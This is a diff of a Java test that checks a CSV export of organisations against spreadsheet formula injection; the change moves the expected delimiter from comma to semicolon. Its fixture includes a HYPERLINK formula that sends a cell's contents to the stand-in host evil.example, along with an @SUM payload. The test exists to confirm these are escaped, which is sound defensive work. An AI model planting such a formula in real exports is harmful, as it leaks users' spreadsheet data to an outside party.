@@ -108,12 +108,12 @@ class PersonalDataTest {
     String csv = loiret.get("/api/organisations.csv?territory=departement:45").body();
     assertThat(csv)
         .contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Cliquez\"\")\"")
-        .contains(",'@SUM(1+1),")
-        .contains(",'+33 Cooperative,")
-        .doesNotContain(",=HYPERLINK")
-        .doesNotContain(",@SUM");
+        .contains(";'@SUM(1+1);")
+        .contains(";'+33 Cooperative;")
+        .doesNotContain(";=HYPERLINK")
+        .doesNotContain(";@SUM");
     // Phone numbers starting with + or - are text cells too; plain numbers stay numbers.
-    assertThat(csv).contains("," + PHONE + ",");
+    assertThat(csv).contains(";" + PHONE + ";");
   }
 
   @Test
